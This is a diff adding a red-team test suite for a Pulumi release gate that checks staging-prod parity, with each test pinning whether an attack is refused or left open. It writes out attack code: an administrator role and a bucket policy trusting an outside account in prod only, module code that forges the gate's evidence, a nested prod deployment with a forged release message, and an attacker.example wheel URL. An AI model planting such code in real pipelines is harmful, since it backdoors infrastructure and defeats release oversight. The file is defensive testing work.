@@ -1,0 +1,458 @@
+/**
+ * Red-team attacks on the release gate, on the real engine (real Pulumi CLI, stand-in AWS
+ * provider, the real program, pack and `promote`). Each attack is a commit of the release
+ * repository, deployed to staging and promoted to prod exactly as the release workflow would.
+ *
+ * The threat model is the one the README states: the candidate commit controls the program
+ * (`src/`, `index.ts`), its outputs, `policy-pack/`, the stack files and the flags passed to
+ * `promote`, but not the release tooling (`cli/`, `tools/`), which is never edited here.
+ *
+ * How to read the outcomes:
+ * - "refused" / "allowed": what the gate does, and must keep doing; the test pins the policy and
+ *   the message. Several of them were holes when the red team first tried them (issue 10's note).
+ * - "RESIDUAL": a hole or a wrong refusal the README's trust model names and leaves open; the test
+ *   pins today's behaviour, so a change to it (a fix, or a wider hole) is noticed and documented.
+ *
+ * One workspace is shared by the whole file. Most attacks are grouped into a few commits, each
+ * deployed to staging once and previewed (or promoted) to prod once; every attack lives on its
+ * own resource or property, so each test judges its own line of the gate's verdict.
+ */
+import { strict as assert } from "assert";
+import { execFileSync } from "child_process";
+import * as fs from "fs";
+import * as path from "path";
+import type * as PromoteLib from "../../cli/lib/promote";
+import type * as StacksLib from "../../cli/lib/stacks";
+import { parseReleaseMessage } from "../../policy-pack/src/contract/release-identity";
+import { Promotion, RunOutcome, withOfflineWorkspace } from "./support/offline-release";
+
+type Edit = (text: string) => string;
+
+/** Replaces `from` (which must occur) with `to`. */
+const replacing = (from: string | RegExp, to: string): Edit => (text) => {
+    const edited = text.replace(from, to);
+    if (edited === text) {
+        throw new Error(`the edit no longer matches: ${String(from)}`);
+    }
+    return edited;
+};
+const compose = (...edits: Edit[]): Edit => (text) => edits.reduce((t, edit) => edit(t), text);
+
+/** Program code inserted into `buildPlatform` right after the explicit provider (config, names, provider, version in scope). */
+const PROVIDER_LINE = "    const opts: pulumi.ComponentResourceOptions = { providers: [provider] };\n";
+const afterProvider = (code: string): Edit => replacing(PROVIDER_LINE, PROVIDER_LINE + code);
+const doubledWorkersIf = (condition: string): Edit =>
+    replacing("numberOfWorkers: config.glueNumberOfWorkers,", `numberOfWorkers: ${condition} ? config.glueNumberOfWorkers * 2 : config.glueNumberOfWorkers,`);
+
+/** A stack transformation (the program's own code) that edits resources by logical name. */
+const transformation = (body: string) => `
+    pulumi.runtime.registerStackTransformation((t: any) => {
+        const props = { ...t.props };
+        const o = { ...t.opts };
+${body}
+        return { props, opts: o };
+    });
+`;
+
+// ---- commit "refused + allowed": prod-only differences the gate must refuse, and differences the strategy allows ----
+const REFUSED_AND_ALLOWED = `
+    const atlasProd = config.environment === "prod";
+    const caller = aws.getCallerIdentityOutput({}, { provider });
+    const gateNote = new aws.s3.BucketObjectv2("gate-note", { bucket: names.bucket("artifacts"), key: "gate/note.txt", source: new pulumi.asset.StringAsset(atlasProd ? "B-text" : "A-text") }, { provider });
+    new aws.ssm.Parameter("gate-secret", { name: \`\${config.namePrefix}-gate-secret\`, type: "SecureString", value: pulumi.secret(atlasProd ? "b-value" : "a-value") }, { provider });
+    const oncallProvider = atlasProd ? new aws.Provider("oncall-aws", { region: config.awsRegion as aws.Region, allowedAccountIds: [config.awsAccountId], defaultTags: { tags: { environment: config.environment, project: PROJECT_TAG, release: version } } }) : undefined;
+    if (atlasProd) {
+        new pulumi.ComponentResource("atlas:extra:Extra", "extra-component");
+    }
+    // allowed: the same file, named by a path relative to the program's directory; an archive; a constant folder named "staging/"
+    new aws.s3.BucketObjectv2("gate-relative-asset", { bucket: names.bucket("artifacts"), key: "gate/relative.py", source: new pulumi.asset.FileAsset("glue/atlas_etl.py") }, { provider });
+    new aws.s3.BucketObjectv2("gate-archive", { bucket: names.bucket("artifacts"), key: "gate/glue.zip", source: new pulumi.asset.FileArchive(path.join(REPOSITORY_ROOT, "glue")) }, { provider });
+${transformation(`
+        if (t.name === "etl-job") {
+            props.timeout = caller.accountId.apply((id) => (id === "333333333333" ? 240 : config.glueJobTimeoutMinutes));
+            props.tags = { mode: atlasProd ? config.namePrefix + "-fast" : config.namePrefix };
+            props.defaultArguments = pulumi.output(props.defaultArguments).apply((a: any) => ({ ...a, "--spill_path": "s3://" + names.bucket("artifacts") + "/staging/" }));
+            if (atlasProd) { props.maxRetries = String(config.glueJobMaxRetries); o.protect = true; }
+        }
+        if (atlasProd && t.name === "etl-script") props.source = new pulumi.asset.FileAsset(path.join(REPOSITORY_ROOT, "README.md"));
+        if (atlasProd && t.name === "landing-quality-ruleset") o.dependsOn = [gateNote];
+        if (atlasProd && t.name === "pipeline-dashboard") o.provider = oncallProvider;
+`)}
+`;
+
+// ---- commit "prod-only settings": differences the red team first got past the preview ----
+const PROD_ONLY_SETTINGS = `
+    const atlasProd = config.environment === "prod";
+    // the pack hashes a relative FileAsset path from the program's directory, as the engine does
+    new aws.s3.BucketObjectv2("etl-helper", { bucket: names.bucket("artifacts"), key: "glue/helper.py", source: new pulumi.asset.FileAsset(atlasProd ? "PulumiPolicy.yaml" : "policy-pack/PulumiPolicy.yaml") }, { provider });
+${transformation(`
+        if (t.name === "etl-job") {
+            props.defaultArguments = pulumi.output(props.defaultArguments).apply((a: any) => ({ ...a,
+                "--additional-python-modules": config.teamAlertEmail,
+                "--conf": "spark.jars.packages=io.delta:delta-spark_2.12:" + (atlasProd ? "2.99.9" : "2.31.0") }));
+        }
+        if (!atlasProd) return { props, opts: o };
+        if (t.name === "etl-job") props.executionClass = "FLEX";
+        if (t.name === "data-key") props.isEnabled = false;
+        if (t.name === "pipeline-policy") props.policy = pulumi.output(props.policy).apply((p: string) => p.replace('{"Version":"2012-10-17",', '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}],'));
+        if (t.name === "etl-job-failure-alarm") o.retainOnDelete = true;
+        if (t.name === "state-machine-failure-alarm") o.deleteBeforeReplace = true;
+        if (t.name === "data-quality-failure-alarm") o.replaceOnChanges = ["*"];
+        if (t.name === "pipeline-dashboard") o.ignoreChanges = ["dashboardBody"];
+        if (t.name === "alert-topic") o.customTimeouts = { create: "1s", update: "1s", delete: "1s" };
+`)}
+    if (atlasProd) {
+        const breakGlass = new aws.iam.Role("oncall-break-glass-role", { name: \`\${config.namePrefix}-break-glass\`, assumeRolePolicy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::999999999999:root" }, Action: "sts:AssumeRole" }] }) }, { provider });
+        new aws.iam.RolePolicy("oncall-break-glass-policy", { role: breakGlass.name, policy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }] }) }, { provider });
+        // AWS keeps one policy per bucket: this prod-only one replaces the landing bucket's own policy
+        new aws.s3.BucketPolicy("oncall-landing-access", { bucket: names.bucket("landing"), policy: JSON.stringify({ Version: "2012-10-17", Statement: [
+            { Sid: "DenyInsecureTransport", Effect: "Deny", Principal: "*", Action: "s3:*", Resource: [names.bucketArn("landing"), names.bucketArn("landing") + "/*"], Condition: { Bool: { "aws:SecureTransport": "false" } } },
+            { Sid: "OncallExport", Effect: "Allow", Principal: { AWS: "arn:aws:iam::999999999999:root" }, Action: "s3:GetObject", Resource: names.bucketArn("landing") + "/*" },
+        ] }) }, { provider });
+        new aws.ssm.Parameter("qa-pipeline-overrides", { name: \`\${config.namePrefix}-pipeline-overrides\`, type: "String", value: JSON.stringify({ skipQualityGate: true }) }, { provider });
+    }
+`;
+
+// ---- commit "unseen at preview": a prod-only value the preview cannot know ----
+const UNKNOWN_AT_PREVIEW = `
+    // a resource this release adds: its outputs are unknown in prod's preview (it is created there in the same run)
+    const gateProbe = new aws.ssm.Parameter("gate-probe", { name: \`\${config.namePrefix}-gate-probe\`, type: "String", value: "probe" }, { provider });
+${transformation(`
+        if (t.name === "etl-job") props.timeout = gateProbe.version.apply(() => (config.environment === "prod" ? 240 : config.glueJobTimeoutMinutes));
+`)}
+`;
+
+// ---- commit "dry run": a program that previews one value and deploys another ----
+const BRANCHES_ON_DRY_RUN = transformation(`
+        if (t.name === "etl-job" && config.environment === "prod" && !pulumi.runtime.isDryRun()) props.maxRetries = 0;
+`);
+
+// ---- commit "tooling": program code that runs inside promote (cli/lib/stack-file-config.ts imports src/config) ----
+const FORGE_STAGING_EVIDENCE = `
+// Module code runs wherever src/config is loaded: the program, and the release tooling itself.
+// eslint-disable-next-line @typescript-eslint/no-require-imports
+const checkpointModule = require("../../policy-pack/src/contract/desired-state/checkpoint");
+const comparedResourcesOf = checkpointModule.comparedResourcesOf;
+checkpointModule.comparedResourcesOf = (resources: unknown) =>
+    comparedResourcesOf(resources).map((r: any) => (r.urn.endsWith("::etl-job") ? { ...r, inputs: { ...r.inputs, numberOfWorkers: r.inputs.numberOfWorkers * 2 } } : r));
+`;
+
+// ---- commit "nested": the prod program, run by promote's gated preview, updates prod itself ----
+const NESTED_UPDATE = `
+    if (config.environment === "prod" && pulumi.runtime.isDryRun() && !process.env.ATLAS_GATE_ATTACK_NESTED) {
+        // The program inherits the CLI's environment: backend, secrets passphrase (in CI: prod's deploy role), PATH.
+        // Offline, the project files live next to the file backend; in CI the program's own directory would do.
+        const project = path.join(path.dirname(new URL(process.env.PULUMI_BACKEND_URL!).pathname), "project");
+        const message = \`atlas release \${process.env.ATLAS_RELEASE_VERSION} commit=\${process.env.ATLAS_RELEASE_COMMIT} digest=\${process.env.ATLAS_RELEASE_DIGEST} gate=prod-release:\${process.env.ATLAS_RELEASE_COMMIT}\`;
+        require("child_process").execFileSync("pulumi", ["up", "--stack", "prod", "--yes", "--skip-preview", "--message", message, "--cwd", project], { env: { ...process.env, ATLAS_GATE_ATTACK_NESTED: "1" }, stdio: "ignore" });
+        throw new Error("a harmless-looking program error");
+    }
+`;
+
+function summary(outcome: RunOutcome | null | undefined): string {
+    if (!outcome) {
+        return "(no run)";
+    }
+    return JSON.stringify({ succeeded: outcome.succeeded, changes: outcome.changes, violations: outcome.violations.map((v) => `[${v.level}] ${v.policy}: ${v.message.slice(0, 1500)}`), errors: outcome.errors.map((e) => e.slice(0, 400)) }, null, 2);
+}
+
+/** Mandatory messages of one policy (empty when it did not refuse). */
+function refusal(outcome: RunOutcome, policy: string): string {
+    return outcome.violations.filter((v) => v.policy === policy && v.level === "mandatory").map((v) => v.message).join("\n");
+}
+
+/** The gate's parity refusal must name this difference (one line of its list). */
+function assertParityNames(outcome: RunOutcome, line: RegExp, what: string): void {
+    assert.match(refusal(outcome, "staging-prod-parity"), line, `GOT THROUGH: ${what}; staging-prod-parity should have refused it (${line}). The preview:\n${summary(outcome)}`);
+}
+
+/** The gate must not list this (allowed) difference. */
+function assertParityAllows(outcome: RunOutcome, line: RegExp, what: string): void {
+    const message = refusal(outcome, "staging-prod-parity");
+    const listed = message.split("\n").filter((l) => line.test(l));
+    assert.deepEqual(listed, [], `WRONGLY REFUSED: ${what} is a difference the strategy allows, but staging-prod-parity refuses it`);
+}
+
+function assertDeployed(promotion: Promotion, what: string): void {
+    assert.equal(promotion.preview.succeeded, true, `${what} preview: ${summary(promotion.preview)}`);
+    assert.equal(promotion.update?.succeeded, true, `${what} update: ${summary(promotion.update)}`);
+}
+
+describe("attacks on the release gate (red team)", function () {
+    const fixture = withOfflineWorkspace();
+    const sys = () => fixture.system;
+    const git = (cwd: string, ...args: string[]) => execFileSync("git", args, { cwd, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] }).trim();
+
+    /** Like `sys().commit`, but may also add new files. */
+    const commitFiles = (base: string, files: Record<string, string>, edits: Record<string, Edit>, message: string): string => {
+        const repository = sys().repository.dir;
+        const work = `${repository}-attack-${process.pid}-${Date.now()}`;
+        git(repository, "worktree", "add", "-q", "--detach", work, base);
+        try {
+            for (const [file, text] of Object.entries(files)) {
+                fs.writeFileSync(path.join(work, file), text);
+            }
+            for (const [file, edit] of Object.entries(edits)) {
+                fs.writeFileSync(path.join(work, file), edit(fs.readFileSync(path.join(work, file), "utf8")));
+            }
+            git(work, "add", "-A");
+            git(work, "-c", "user.name=attacker", "-c", "user.email=attacker@atlas.invalid", "-c", "commit.gpgsign=false", "commit", "-q", "--no-verify", "-m", message);
+            return git(work, "rev-parse", "HEAD");
+        } finally {
+            git(repository, "worktree", "remove", "--force", work);
+        }
+    };
+
+    /** `pulumi stack export` of a stack: URN suffix → resource. */
+    const exported = async (stack: string) => {
+        const document = JSON.parse(await sys().pulumi(["stack", "export", "--stack", stack])) as { deployment: { resources: { urn: string; inputs?: Record<string, unknown> }[] } };
+        return (name: string) => document.deployment.resources.find((r) => r.urn.endsWith(`::${name}`));
+    };
+    const history = async (stack: string) => JSON.parse(await sys().pulumi(["stack", "history", "--json", "--stack", stack, "--page-size", "10"])) as { kind: string; result: string; message: string }[];
+
+    before(async function () {
+        this.timeout(600_000);
+        assertDeployed(await sys().promote("staging", "1.0.0"), "staging @ 1.0.0");
+        assertDeployed(await sys().promote("prod", "1.0.0"), "prod @ 1.0.0 (first deployment)");
+    });
+
+    describe("prod-only differences in one commit (staging deployed from the same commit, prod previewed)", function () {
+        let preview: RunOutcome;
+
+        before(async function () {
+            this.timeout(600_000);
+            const commit = sys().commit({
+                "src/program.ts": afterProvider(REFUSED_AND_ALLOWED),
+                // allowed: staging pages its own on-call endpoint (a secret), and alerts its own list (its subscription is replaced)
+                "Pulumi.staging.yaml": compose(replacing("atlas:routeAlertsToOncall: false", "atlas:routeAlertsToOncall: true"), replacing(/atlas:teamAlertEmail: .*/, "atlas:teamAlertEmail: atlas-staging-alerts@example.com")),
+            }, "prod-only differences, and differences the strategy allows");
+            const staging = await sys().stack("staging");
+            await staging.setConfig("atlas:oncallEndpoint", { value: "https://oncall.invalid/atlas/staging-pager", secret: true });
+            try {
+                assertDeployed(await sys().promote("staging", "2.0.0", { commit }), "staging @ 2.0.0");
+                preview = (await sys().promote("prod", "2.0.0", { commit, previewOnly: true })).preview;
+            } finally {
+                await staging.removeConfig("atlas:oncallEndpoint");
+            }
+        });
+
+        it("refused: a setting computed from an invoke whose result differs per environment (getCallerIdentity)", () => {
+            assertParityNames(preview, /aws:glue\/job:Job "etl-job" timeout: staging 120, prod 240/, "invoke-driven timeout");
+        });
+        it("refused: an environment-specific value plus a suffix that encodes a setting (tag `<namePrefix>-fast`)", () => {
+            assertParityNames(preview, /"etl-job" tags\.mode: staging "<namePrefix>", prod "<namePrefix>-fast"/, "namePrefix with a suffix");
+        });
+        it("refused: a number sent as a string in prod only", () => {
+            assertParityNames(preview, /"etl-job" maxRetries: staging 1, prod "1"/, "number vs string");
+        });
+        it("refused: protect only in prod", () => {
+            assertParityNames(preview, /"etl-job" \(protect\): staging false, prod true/, "protect");
+        });
+        it("refused: a FileAsset path chosen per environment (another file's content)", () => {
+            assertParityNames(preview, /"etl-script" source: staging \[file content \w+\], prod \[file content \w+\]/, "FileAsset path per environment");
+        });
+        it("refused: a StringAsset whose text differs per environment", () => {
+            assertParityNames(preview, /"gate-note" source: staging \[file content \w+\], prod \[file content \w+\]/, "StringAsset");
+        });
+        it("refused: a secret that differs only in prod (compared by digest, never printed)", () => {
+            assertParityNames(preview, /"gate-secret" value: staging \[secret sha256:\w+\], prod \[secret sha256:\w+\]/, "secret");
+            assert.equal(JSON.stringify(preview).includes("b-value"), false);
+        });
+        it("refused: a dependency only prod has (dependsOn)", () => {
+            assertParityNames(preview, /"landing-quality-ruleset" \(dependencies\): staging \(no others\), prod "gate-note"/, "dependsOn");
+        });
+        it("refused: a second provider only prod has (named oncall-*, so its own presence is set aside) used by a shared resource", () => {
+            assertParityNames(preview, /"pipeline-dashboard" \(provider\): staging \S+::aws, prod \S+::oncall-aws/, "explicit provider");
+        });
+        it("refused: a component only prod has", () => {
+            assertParityNames(preview, /atlas:extra:Extra "extra-component" \(resource\): staging \(absent\), prod present/, "prod-only component");
+        });
+        it("allowed: staging's own subscription replaced by its own e-mail (the resource count still matches its release)", () => {
+            assert.equal(refusal(preview, "staging-evidence-verified"), "");
+            assert.equal(refusal(preview, "prod-release-matches-staging"), "");
+        });
+        it("allowed: a FileAsset named by a path relative to the program's directory", () => {
+            assertParityAllows(preview, /"gate-relative-asset" source/, "the same relative FileAsset in both stacks");
+        });
+        it("allowed: a constant that contains another environment's name (an S3 folder `staging/`)", () => {
+            assertParityAllows(preview, /"--spill_path"/, "the constant s3://…/staging/ in both stacks");
+        });
+        it("RESIDUAL (wrongly refused): staging pages its own on-call endpoint — a secret environment-specific value compares by digest", () => {
+            assert.match(refusal(preview, "staging-prod-parity"), /"oncall-subscription" endpoint: staging \[secret sha256:\w+\], prod \[secret sha256:\w+\]/);
+        });
+        it("RESIDUAL (wrongly refused): an archive asset identical in both stacks — the pack cannot hash archives", () => {
+            assert.match(refusal(preview, "staging-prod-parity"), /"gate-archive" source: staging \[file content \w+\], prod \[file content \(an asset ki/);
+        });
+    });
+
+    describe("prod-only settings the red team first got past the preview (one commit, staging deployed, prod promoted)", function () {
+        let promotion: Promotion;
+        let preview: RunOutcome;
+
+        before(async function () {
+            this.timeout(600_000);
+            const commit = commitFiles(sys().snapshot, { "PulumiPolicy.yaml": "import urllib.request  # code staging never ran\n" }, {
+                "src/program.ts": compose(
+                    afterProvider(PROD_ONLY_SETTINGS),
+                    replacing("release: version } },", 'release: version, "python-modules": config.environment === "prod" ? "2.99.9" : "2.31.0" } },'),
+                ),
+                // each environment's own alert list, as the strategy allows (e-mail addresses both)
+                "Pulumi.prod.yaml": replacing(/atlas:teamAlertEmail: .*/, "atlas:teamAlertEmail: atlas-prod-alerts@example.com"),
+            }, "prod-only settings");
+            assertDeployed(await sys().promote("staging", "3.0.0", { commit }), "staging @ 3.0.0");
+            promotion = await sys().promote("prod", "3.0.0", { commit });
+            preview = promotion.preview;
+        });
+
+        it("refused in the preview, so prod is not updated", () => {
+            assert.equal(promotion.update, null);
+            assert.equal(preview.succeeded, false);
+        });
+        it("refused: a property staging leaves to the provider's default but prod sets (KMS key isEnabled: false), seen in prod's own inputs", () => {
+            assertParityNames(preview, /aws:kms\/key:Key "data-key" isEnabled: staging \(provider default\), prod false|aws:kms\/key:Key "data-key" isEnabled/, "the data key disabled in prod only");
+        });
+        it("refused: a property staging leaves to the provider's default but prod sets (Glue job executionClass FLEX)", () => {
+            assertParityNames(preview, /"etl-job" executionClass/, "executionClass FLEX in prod only");
+        });
+        it("refused: a prod-only value that only tagsAll could pair as a generated id (provider default tag + Glue --conf)", () => {
+            assertParityNames(preview, /defaultTags \(JSON\)\.tags\["python-modules"\]|"etl-job" defaultArguments\["--conf"\]/, "delta-spark 2.99.9 in prod, 2.31.0 in staging");
+        });
+        it("refused: prod-only resources whose logical names look environment-specific but are not of the types their role makes", () => {
+            assertParityNames(preview, /"oncall-break-glass-role" \(resource\)/, "an administrator role trusting an outside account, prod only");
+            assertParityNames(preview, /"qa-pipeline-overrides" \(resource\)/, "a qa-* parameter in prod (QA is staging's)");
+            assertParityNames(preview, /"oncall-landing-access" \(resource\)/, "a second policy of the landing bucket (it replaces the bucket's own) granting an outside account");
+        });
+        it("refused: a JSON document whose text differs only by a duplicated key (compared as text)", () => {
+            assertParityNames(preview, /"pipeline-policy" policy/, "an extra Allow *:* Statement first in prod's policy text");
+        });
+        it("refused: a relative FileAsset path, resolved against the program's directory as the engine does", () => {
+            assertParityNames(preview, /"etl-helper" source/, "prod uploads the candidate's root PulumiPolicy.yaml, staging the pack's");
+        });
+        it("refused: resource options the engine shows policies (ignoreChanges, customTimeouts); RESIDUAL: retainOnDelete, deleteBeforeReplace, replaceOnChanges never reach a policy", () => {
+            const named = (name: string, option: string) => new RegExp(`"${name}" \\(?${option}`).test(refusal(preview, "staging-prod-parity"));
+            assert.deepEqual(
+                [["pipeline-dashboard", "ignoreChanges"], ["alert-topic", "customTimeouts"]].filter(([name, option]) => !named(name, option)),
+                [],
+                `prod-only resource options not compared. The preview:\n${summary(preview)}`,
+            );
+            assert.deepEqual(
+                [["etl-job-failure-alarm", "retainOnDelete"], ["state-machine-failure-alarm", "deleteBeforeReplace"], ["data-quality-failure-alarm", "replaceOnChanges"]].filter(([name, option]) => named(name, option)),
+                [],
+                "a policy now sees one of these options: compare it and move it out of the README's residuals",
+            );
+        });
+        it("RESIDUAL: an environment-specific value that has its key's shape, routed into an unrelated setting, compares equal", async () => {
+            const [staging, prod] = [await exported("staging"), await exported("prod")];
+            assert.equal((staging("etl-job")?.inputs?.defaultArguments as Record<string, string>)["--additional-python-modules"], "atlas-team@example.com", "staging runs its own value");
+            assert.ok(prod("etl-job"), "prod was deployed before");
+            assert.deepEqual(refusal(preview, "staging-prod-parity").split("\n").filter((line) => line.includes("--additional-python-modules")), [], "prod's atlas-prod-alerts@example.com is set aside as its teamAlertEmail");
+        });
+    });
+
+    it("refused: an environment-specific value that does not have its key's shape (a wheel URL as prod's teamAlertEmail)", async function () {
+        this.timeout(600_000);
+        const commit = sys().commit({ "Pulumi.prod.yaml": replacing(/atlas:teamAlertEmail: .*/, "atlas:teamAlertEmail: etl-deps@https://attacker.example/evil-1.0-py3-none-any.whl") }, "a URL as prod's alert e-mail");
+        const { preview } = await sys().promote("prod", "3.0.1", { commit, previewOnly: true });
+        assert.match(refusal(preview, "staging-prod-parity"), /prod: atlas:teamAlertEmail is "etl-deps@https:\/\/attacker\.example\/evil-1\.0-py3-none-any\.whl", not an e-mail address/);
+    });
+
+    describe("what the preview cannot see", function () {
+        it("RESIDUAL: a prod-only value unknown at preview (computed from a resource the update creates) is refused only after the update applied it; prod's history records the update failed", async function () {
+            this.timeout(600_000);
+            const commit = sys().commit({ "src/program.ts": afterProvider(UNKNOWN_AT_PREVIEW) }, "a timeout computed from a new resource, prod only");
+            assertDeployed(await sys().promote("staging", "3.1.0", { commit }), "staging @ 3.1.0");
+            const promotion = await sys().promote("prod", "3.1.0", { commit });
+            assert.equal(promotion.preview.succeeded, true, summary(promotion.preview));
+            assert.match(promotion.preview.violations.map((v) => v.message).join("\n"), /compared by the resources they are computed from/);
+            assert.equal(promotion.update?.succeeded, false);
+            assert.match(refusal(promotion.update!, "staging-prod-parity"), /"etl-job" timeout: staging 120, prod 240/);
+            const [prod, staging] = [await exported("prod"), await exported("staging")];
+            assert.deepEqual([staging("etl-job")?.inputs?.timeout, prod("etl-job")?.inputs?.timeout], [120, 240], "applied before the update's policies ran");
+            assert.equal((await history("prod"))[0].result, "failed", "the next promote is judged by the release before it");
+        });
+
+        it("refused: a program that previews one value and deploys another (isDryRun) fails its update before the step, held to the preview's plan", async function () {
+            this.timeout(600_000);
+            const commit = sys().commit({ "src/program.ts": afterProvider(BRANCHES_ON_DRY_RUN) }, "maxRetries 0 in prod, outside previews");
+            assertDeployed(await sys().promote("staging", "3.2.0", { commit }), "staging @ 3.2.0");
+            const promotion = await sys().promote("prod", "3.2.0", { commit });
+            assert.equal(promotion.preview.succeeded, true, summary(promotion.preview));
+            assert.equal(promotion.update?.succeeded, false, summary(promotion.update));
+            const [prod, staging] = [await exported("prod"), await exported("staging")];
+            assert.equal(prod("etl-job")?.inputs?.maxRetries, staging("etl-job")?.inputs?.maxRetries, "prod keeps staging's maxRetries");
+        });
+    });
+
+    describe("the release tooling runs candidate code", function () {
+        let commit: string;
+        let promotion: PromoteLib.PromoteReport;
+
+        before(async function () {
+            this.timeout(600_000);
+            commit = sys().commit({
+                "src/program.ts": doubledWorkersIf('config.environment === "prod"'),
+                "src/config/index.ts": (text) => text + FORGE_STAGING_EVIDENCE,
+            }, "more workers in prod, and a config module that rewrites the gate's evidence");
+            assertDeployed(await sys().promote("staging", "4.0.0", { commit }), "staging @ 4.0.0");
+            // The release workflow runs `npm run promote` in the candidate's checkout: its (unchanged, reviewed) cli/,
+            // which imports the candidate's src/config and policy-pack/src modules.
+            const checkout = sys().source(commit).checkout;
+            const candidatePromote = (await import(path.join(checkout, "cli", "lib", "promote"))) as typeof PromoteLib;
+            const candidateStacks = (await import(path.join(checkout, "cli", "lib", "stacks"))) as typeof StacksLib;
+            promotion = await candidatePromote.promote(new candidateStacks.OfflineBackend(sys().workspace, checkout), { target: "prod", version: "4.0.0" });
+        });
+
+        it("(precondition) the commit leaves cli/, tools/ and .github/ untouched", () => {
+            assert.equal(git(sys().repository.dir, "diff", "--name-only", sys().snapshot, commit, "--", "cli", "tools", ".github", "scripts"), "");
+        });
+        it("RESIDUAL: a module of src/ (imported by cli/lib/stack-file-config.ts) rewrites staging's evidence inside promote; prod deploys 20 workers, staging runs 10", async () => {
+            const [prod, staging] = [await exported("prod"), await exported("staging")];
+            assert.deepEqual([staging("etl-job")?.inputs?.numberOfWorkers, prod("etl-job")?.inputs?.numberOfWorkers], [10, 20],
+                `the tooling runs the candidate's code with prod's credentials (README, trust model); if this fails, it no longer does: update the README. Gate ${JSON.stringify(promotion.gate)}:\n${summary(promotion.preview)}`);
+            assert.equal(refusal(promotion.preview, "staging-prod-parity"), "");
+        });
+    });
+
+    it("refused: release N changes policy-pack/ (lowers staging-prod-parity to advisory) without the prod environment's approval, so it cannot judge release N+1", async function () {
+        this.timeout(600_000);
+        const relaxed = sys().commit({ "policy-pack/src/enforcement.ts": replacing('"staging-prod-parity": "mandatory"', '"staging-prod-parity": "advisory"') }, "a pack change, nothing else");
+        const before = (await history("prod")).length;
+        await assert.rejects(sys().promote("prod", "5.0.0", { commit: relaxed, env: {} }), (error: Error) => error.constructor.name === "GateRefusal" && /this release changes policy-pack\//.test(error.message));
+        assert.equal((await history("prod")).length, before, "nothing ran");
+    });
+
+    describe("the program runs with the credentials of the stack it deploys", function () {
+        let commit: string;
+        let historyBefore: { kind: string; result: string; message: string }[];
+        let promotion: Promotion;
+
+        before(async function () {
+            this.timeout(600_000);
+            historyBefore = await history("prod");
+            commit = sys().commit({ "src/program.ts": compose(doubledWorkersIf("process.env.ATLAS_GATE_ATTACK_NESTED"), afterProvider(NESTED_UPDATE)) }, "a program that deploys prod itself");
+            promotion = await sys().promote("prod", "6.0.0", { commit });
+        });
+
+        it("(precondition) promote did not update prod: its preview failed with the program's error", () => {
+            assert.equal(promotion.update, null);
+            assert.match(promotion.preview.errors.join("\n"), /a harmless-looking program error/);
+        });
+        it("RESIDUAL: during promote's gated preview the prod program runs `pulumi up` of prod without the pack, with a forged release message", async () => {
+            const after = await history("prod");
+            const added = after.slice(0, after.length - historyBefore.length);
+            const forged = added.filter((e) => e.result === "succeeded");
+            assert.equal(forged.length, 1, "the program holds prod's credentials during the preview (README, trust model: preview with a read-only role)");
+            assert.equal(parseReleaseMessage(forged[0].message)?.identity.commit, commit, "the forged entry names the candidate as prod's release");
+            const [prod, staging] = [await exported("prod"), await exported("staging")];
+            assert.notEqual(prod("etl-job")?.inputs?.numberOfWorkers, staging("etl-job")?.inputs?.numberOfWorkers);
+        });
+    });
+
+    describe("outside the engine: what the prod job executes", function () {
+        it("RESIDUAL (static): the prod job runs `npm ci` and `npm run promote` in the candidate's checkout, so package.json (a deployment input the candidate controls) decides what runs with prod's role", () => {
+            const workflow = fs.readFileSync(path.join(__dirname, "..", "..", ".github", "workflows", "deploy-stack.yml"), "utf8");
+            assert.match(workflow, /npm ci/);
+            assert.match(workflow, /npm run[^\n]*promote/, "if the job no longer runs the candidate's scripts, update the README's trust model");
+        });
+    });
+});
